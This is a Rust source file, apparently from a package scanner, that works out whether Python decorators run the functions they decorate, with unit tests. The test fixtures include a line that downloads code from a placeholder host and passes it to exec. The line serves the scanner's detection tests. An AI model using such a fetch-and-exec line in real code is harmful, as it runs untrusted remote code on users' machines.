//! Decorators of Python: whether what is put above a `def` runs it, or only keeps it until
//! somebody calls it by its name.
//!
//! A name that is decorated means the function below the decorator here, so whoever calls it by
//! its name is followed into it. What is asked is only whether the decorator calls it at once.

use super::kept::{How, Kept};
use super::reach::Queue;
use super::{Analysis, Site};
use crate::ir::{Binary, Expr, ExprId, FuncId, Language, Logic, Program, SymbolId};
use crate::know;
use crate::pure::{FileId, Value};
use customs_model::Zone;
use rustc_hash::FxHashSet;
use std::rc::Rc;

/// Decorators of a package that are looked at: each costs going through its file.
const ASKED: usize = 128;
/// Expressions of such a file.
const EXPRESSIONS: usize = 1 << 17;
/// Calls in a decorator that is looked at.
const CALLS: usize = 16;
/// Defaults within each other.
const LEVELS: usize = 16;

impl Analysis<'_> {
    /// What a call is a decorator of, where it does not call it. Where anything else may happen
    /// to it, none.
    pub(super) fn only_decorates(
        &mut self,
        program: &Program,
        file: FileId,
        callee: ExprId,
        decorator: &Value,
        args: &[ExprId],
    ) -> Option<ExprId> {
        if program.language != Language::Python {
            return None;
        }
        let [arg] = args else {
            return None;
        };
        let only = match program.expr(*arg) {
            // Only what `def` makes has a name, and stands nowhere else than below decorators.
            Expr::Function(function) if program.function(function).name.is_some() => {
                is_mark(decorator)
                    || self.is_known(program, file, callee, decorator)
                    || self.is_part_of_property(program, file, callee, function)
                    || self.only_wraps(decorator)
            }
            Expr::Class(_) => is_mark(decorator) || self.is_known(program, file, callee, decorator),
            _ => false,
        };
        only.then_some(*arg)
    }

    /// Whether it is a decorator of a library of which it is known that it calls nothing.
    fn is_known(
        &mut self,
        program: &Program,
        file: FileId,
        callee: ExprId,
        decorator: &Value,
    ) -> bool {
        let Some(path) = decorator.path() else {
            return false;
        };
        let Expr::Call { args, .. } = program.expr(callee) else {
            return know::keeps_decorated(path);
        };
        let Some(path) = path.strip_suffix("()") else {
            return false;
        };
        // `lru_cache(function)` is a function that calls the other one.
        know::keeps_with_settings(path)
            && (path != "functools.lru_cache"
                || program
                    .list(args)
                    .to_vec()
                    .into_iter()
                    .all(|arg| self.is_plain_setting(program, file, arg)))
    }

    fn is_plain_setting(&mut self, program: &Program, file: FileId, arg: ExprId) -> bool {
        let is_plain = |value: &Value| {
            matches!(
                value,
                Value::Null | Value::Bool(_) | Value::Number(_) | Value::Text(_)
            )
        };
        match program.expr(arg) {
            Expr::Keywords(entries) => program
                .list(entries)
                .to_vec()
                .chunks_exact(2)
                .all(|pair| is_plain(&self.machine.fold(file, pair[1]))),
            _ => is_plain(&self.machine.fold(file, arg)),
        }
    }

    /// `@x.setter` above an `x`, where one above it in the class waits as a method that is
    /// decorated.
    fn is_part_of_property(
        &self,
        program: &Program,
        file: FileId,
        callee: ExprId,
        function: FuncId,
    ) -> bool {
        let below = program.function(function);
        let (Expr::Member(object, part), Some(name)) = (program.expr(callee), below.name) else {
            return false;
        };
        matches!(program.name(part), "setter" | "getter" | "deleter")
            && matches!(program.expr(object), Expr::Name(atom, _) if atom == name)
            && self
                .methods_kept(program.name(name), file)
                .any(|other| other < function && program.function(other).class == below.class)
    }

    /// What is below a decorator that does not call it waits. Methods that Python itself calls
    /// are called without being named, so they do not.
    pub(super) fn decorated(
        &mut self,
        program: &Rc<Program>,
        site: Site,
        below: ExprId,
        zone: Zone,
        first: bool,
        queue: &mut Queue,
    ) {
        match program.expr(below) {
            Expr::Function(function) => {
                let built = program.function(function);
                if let Some(name) = built.name.filter(|_| built.class.is_some()) {
                    self.keep(
                        program.shared_name(name),
                        Kept {
                            file: site.file,
                            function,
                            zone,
                            how: How::Method,
                        },
                    );
                }
                self.handed_over(program, site, below, Zone::Called, first, 0, queue);
            }
            Expr::Class(entries) => {
                self.class((site.file, below), Zone::Called, None, queue);
                for pair in program.list(entries).to_vec().chunks_exact(2) {
                    if let Expr::Function(function) = program.expr(pair[1])
                        && is_called_by_python(program.text(pair[0]).unwrap_or_default())
                    {
                        queue.push(zone, site.file, function);
                    }
                }
            }
            _ => {}
        }
    }

    /// Whether a function of the package hands back what it gets, or a function around it, and
    /// does nothing else with it.
    fn only_wraps(&mut self, decorator: &Value) -> bool {
        let Value::Function(closure) = decorator else {
            return false;
        };
        let key = (closure.file, closure.function);
        if let Some(known) = self.wraps_only.get(&key) {
            return *known;
        }
        let (Some(program), Some(index)) = (self.program(closure.file), self.index(closure.file))
        else {
            return false;
        };
        if self.wraps_only.len() >= ASKED || program.size() > EXPRESSIONS {
            return false;
        }
        let calls = index.calls.get(&closure.function);
        let calls = calls.unwrap_or_default();
        let only = program.language == Language::Python
            && calls.len() <= CALLS
            && index
                .parameters
                .get(&(closure.function, 0))
                .is_some_and(|symbol| {
                    self.hands_back(&program, closure.file, closure.function, *symbol, calls)
                });
        self.wraps_only.insert(key, only);
        only
    }

    /// The same, of a decorator's parameter and of the functions that are made in it.
    pub(super) fn hands_back(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        decorator: FuncId,
        parameter: SymbolId,
        calls: &[ExprId],
    ) -> bool {
        let made = made_in(program, decorator);
        let Some(held) = held_in(program, decorator, &made) else {
            return false;
        };
        let returns = &program.function(decorator).returns;
        let mut allowed: FxHashSet<ExprId> = returns.iter().copied().collect();
        let watched =
            |expr: ExprId| made.contains(&expr) || is_name_of(program, expr, parameter, &held);
        for call in calls {
            let Expr::Call { callee, args, .. } = program.expr(*call) else {
                return false;
            };
            let args = program.list(args);
            if self.is_wraps(program, file, callee) {
                // `functools.wraps(function)`: its name and its documentation are copied.
                allowed.extend(args.first());
            } else if let Expr::Call { callee: inner, .. } = program.expr(callee)
                && self.is_wraps(program, file, inner)
            {
                // `@functools.wraps(function)` above a function that is made here.
                if !args.iter().all(|arg| made.contains(arg)) && !returns.contains(call) {
                    return false;
                }
                allowed.extend(args);
            } else if watched(callee)
                || args.iter().any(|arg| watched(*arg))
                || self.may_look_around(program, file, callee)
            {
                return false;
            }
        }
        harmless_places(program, |place| {
            allowed.insert(place);
        });
        // Every other place at which it is named may be one where it is called.
        let every = (0..program.exprs.len()).map(|at| ExprId(at as u32));
        let is_named_by_itself = |expr: &ExprId| is_name_of(program, *expr, parameter, &held);
        let mut here = every.filter(is_named_by_itself).filter(|expr| {
            matches!(program.expr(*expr), Expr::Name(_, scope)
                if program.scopes.get(scope.at()).is_some_and(|scope| scope.function == decorator))
        });
        here.all(|expr| allowed.contains(&expr))
    }

    fn is_wraps(&mut self, program: &Rc<Program>, file: FileId, callee: ExprId) -> bool {
        // Most calls are something else, which is seen without folding.
        let name = match program.expr(callee) {
            Expr::Member(_, name) | Expr::Name(name, _) => program.name(name),
            _ => return false,
        };
        name == "wraps" && self.machine.fold(file, callee).path() == Some("functools.wraps")
    }

    /// Whether it is what finds variables of the function around it without naming them.
    pub(super) fn may_look_around(
        &mut self,
        program: &Rc<Program>,
        file: FileId,
        callee: ExprId,
    ) -> bool {
        let looks = |name: &str| {
            let last = name.rsplit('.').next().unwrap_or(name);
            matches!(
                last,
                "locals" | "vars" | "eval" | "exec" | "globals" | "currentframe" | "_getframe"
            )
        };
        match program.expr(callee) {
            Expr::Member(_, name) | Expr::Name(name, _) if looks(program.name(name)) => true,
            Expr::Call { .. } | Expr::Index(..) | Expr::Function(_) => true,
            _ => self.machine.fold(file, callee).path().is_some_and(looks),
        }
    }
}

/// `__enter__`, `__post_init__`: the language calls it, nobody names it.
fn is_called_by_python(name: &str) -> bool {
    name.starts_with("__") && name.ends_with("__")
}

/// A mark of pytest is put on a function or class and gives it back; it never calls it.
fn is_mark(decorator: &Value) -> bool {
    decorator
        .path()
        .is_some_and(|path| path.starts_with("pytest.mark."))
}

/// The expressions of functions that are made in a function directly.
fn made_in(program: &Program, around: FuncId) -> FxHashSet<ExprId> {
    let exprs = program.exprs.iter().enumerate();
    exprs
        .filter(|(_, expr)| {
            matches!(expr, Expr::Function(function)
                if program.function(*function).parent == Some(around))
        })
        .map(|(at, _)| ExprId(at as u32))
        .collect()
}

/// The variables that hold such functions. None where one of these functions stands somewhere
/// else than in a `def` or in what is handed back.
fn held_in(
    program: &Program,
    around: FuncId,
    made: &FxHashSet<ExprId>,
) -> Option<FxHashSet<SymbolId>> {
    let mut held = FxHashSet::default();
    let mut placed: FxHashSet<ExprId> = program.function(around).returns.iter().copied().collect();
    for (number, symbol) in program.symbols.iter().enumerate() {
        if symbol.function != around.0 {
            continue;
        }
        for value in symbol.values.iter().filter(|value| made.contains(value)) {
            held.insert(SymbolId(number as u32));
            placed.insert(*value);
        }
    }
    made.iter()
        .all(|expr| placed.contains(expr))
        .then_some(held)
}

fn is_name_of(
    program: &Program,
    expr: ExprId,
    parameter: SymbolId,
    held: &FxHashSet<SymbolId>,
) -> bool {
    let Expr::Name(atom, scope) = program.expr(expr) else {
        return false;
    };
    program
        .resolve(atom, scope)
        .is_some_and(|symbol| symbol == parameter || held.contains(&symbol))
}

/// Places at which a function is named and cannot be called: where a parameter or a function
/// gets its name, where its own name or documentation is read, where it is compared.
pub(super) fn harmless_places(program: &Program, mut note: impl FnMut(ExprId)) {
    for expr in &program.exprs {
        match expr {
            Expr::Member(object, name)
                if matches!(
                    program.name(*name),
                    "__name__" | "__doc__" | "__module__" | "__qualname__" | "__annotations__"
                ) =>
            {
                note(*object);
            }
            Expr::Assign(target, value) if is_given(program, *value, 0) => note(*target),
            Expr::Binary(Binary::Is, left, right) => {
                note(*left);
                note(*right);
            }
            _ => {}
        }
    }
}

/// A parameter, with its default or without, or a function.
fn is_given(program: &Program, value: ExprId, level: usize) -> bool {
    match program.expr(value) {
        Expr::Param(..) | Expr::Function(_) => true,
        Expr::Logic(Logic::Nullish, inner, _) if level < LEVELS => {
            is_given(program, inner, level + 1)
        }
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use crate::flow::testing::{remote_code, wheel};
    use customs_model::Zone;

    /// When a module runs what it downloads.
    fn runs(code: &str) -> Zone {
        remote_code(wheel(code)).unwrap_or(Zone::Never)
    }

    const WORK: &str = "\
def work():
    exec(urllib.request.urlopen('https://a.invalid/b').read())
";
    const WRAPS: &str = "\
import functools
import urllib.request

def wrapped(function):
    'Says that it was called.'
    if function is None:
        raise ValueError(function.__name__)
    @functools.wraps(function)
    def around(*args):
        print(function.__name__)
        return function(*args)
    return around

@wrapped
";

    #[test]
    fn a_decorator_that_wraps_a_function_does_not_run_it() {
        assert_eq!(runs(&format!("{WRAPS}{WORK}")), Zone::Called);
    }

    #[test]
    fn a_function_that_is_wrapped_runs_when_its_name_is_called() {
        assert_eq!(runs(&format!("{WRAPS}{WORK}\nwork()\n")), Zone::Import);
        let handed = format!("{WRAPS}{WORK}\nlist(map(work, [1]))\n");
        assert_eq!(runs(&handed), Zone::Import);
    }

    #[test]
    fn a_decorator_that_copies_a_text_does_not_run_what_it_decorates() {
        let code = "\
import urllib.request

def documented(other):
    def decorator(method):
        method.__doc__ = getattr(other, method.__name__).__doc__
        return method
    return decorator

@documented(dict)
";
        assert_eq!(runs(&format!("{code}{WORK}")), Zone::Called);
    }

    #[test]
    fn a_mark_of_a_test_runs_nothing() {
        let code = "\
import pytest
import urllib.request

@pytest.mark.parametrize('a', [1, 2])
@pytest.mark.network
";
        assert_eq!(runs(&format!("{code}{WORK}")), Zone::Called);
        assert_eq!(runs(&format!("{code}{WORK}\nwork()\n")), Zone::Import);
    }

    #[test]
    fn a_decorator_that_may_run_what_it_decorates_does() {
        let bodies = [
            "    f()\n    return f\n",
            "    g = f\n    g()\n    return f\n",
            "    def inner():\n        f()\n    inner()\n    return f\n",
            "    def inner():\n        f()\n    other = inner\n    other()\n    return f\n",
            "    (lambda: f())()\n    return f\n",
            "    [lambda: f()][0]()\n    return f\n",
            "    locals()['f']()\n    return f\n",
            "    hooks.append(f)\n    [g() for g in hooks]\n    return f\n",
            "    start.kept = f\n    return f\n",
            "    def inner():\n        f()\n    hooks.append(inner)\n    return f\n",
            "    @now\n    def inner():\n        f()\n    return inner\n",
            "    atexit.register(f)\n    return f\n",
        ];
        for body in bodies {
            let code = format!(
                "import atexit\nimport urllib.request\nhooks = []\n\
                 def now(g):\n    g()\n    return g\n\
                 def start(f):\n{body}\n@start\n{WORK}"
            );
            assert_eq!(runs(&code), Zone::Import, "{body}");
        }
    }
}
